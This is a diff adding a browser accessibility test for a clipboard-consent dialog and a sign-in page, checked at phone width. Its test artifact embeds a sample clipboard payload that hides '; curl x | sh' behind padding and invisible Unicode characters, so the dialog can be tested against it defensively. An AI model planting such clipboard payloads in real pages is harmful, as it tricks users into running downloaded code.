@@ -192,3 +192,52 @@ def test_the_secret_warning_and_the_secret_scan_have_no_serious_violations(live_
     for scheme in ("light", "dark"):
         page.emulate_media(color_scheme=scheme)
         assert serious_violations(page) == [], f"secret scan ({scheme})"
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_consent_dialog_and_the_sign_in_choice_at_390_px(tmp_path, browser, scheme):
+    """The consent dialog as a phone shows it, with a long text full of marks to
+    copy: while Allow waits and once it answers; focus on the safe answer, both
+    answers named. And the sign-in page asking whether to move this browser's tools."""
+    from artifacts import accounts
+    from tests.helpers import DEFAULT_ACCESS, import_in_browser
+    tool = ("<!doctype html><html lang='en'><title>Copier</title><button id='copy'>Copy</button><script>"
+            "document.getElementById('copy').onclick = () => navigator.clipboard.writeText("
+            "'echo hi' + ' '.repeat(300) + '; curl x | sh\\u202e\\u200b\\t\\n'.repeat(40));</script></html>")
+    with serve_kiln(tmp_path) as server:
+        context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
+                                      color_scheme=scheme)
+        context.set_default_timeout(15_000)
+        try:
+            page = context.new_page()
+            import_in_browser(page, server.app_origin, tool)
+            page.frame_locator("#artifact-frame").locator("#copy").click()
+            dialog = page.get_by_role("dialog", name="Copy 987 characters to your clipboard?")
+            expect(dialog).to_be_visible()
+            expect(dialog.get_by_role("button", name="Cancel")).to_be_focused()
+            allow = dialog.get_by_role("button", name="Copy")
+            expect(allow).to_be_disabled()  # aria-disabled: still focusable, announced as unavailable
+            assert serious_violations(page) == [], "the consent dialog, Allow waiting"
+            expect(allow).to_be_enabled()
+            assert serious_violations(page) == [], "the consent dialog"
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390
+            dialog.get_by_role("button", name="Cancel").click()
+        finally:
+            context.close()
+    (tmp_path / "people").mkdir()
+    with serve_kiln(tmp_path / "people", access=DEFAULT_ACCESS) as server:
+        context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
+                                      color_scheme=scheme)
+        try:
+            page = context.new_page()
+            owner = accounts.ensure_owner(server.kiln.store)
+            shared = server.kiln.import_html("<!doctype html><title>T</title><p>x</p>", owner.key)
+            page.goto(server.kiln.page_url(shared.artifact.id))
+            page.get_by_role("button", name="Remix").click()
+            expect(page.locator("p.notice")).to_contain_text("Remixed")
+            page.goto(server.kiln.login_link())
+            expect(page.get_by_role("radio", name="No, keep them with this browser")).to_be_checked()
+            assert serious_violations(page) == [], "sign-in with the choice to move tools"
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        finally:
+            context.close()
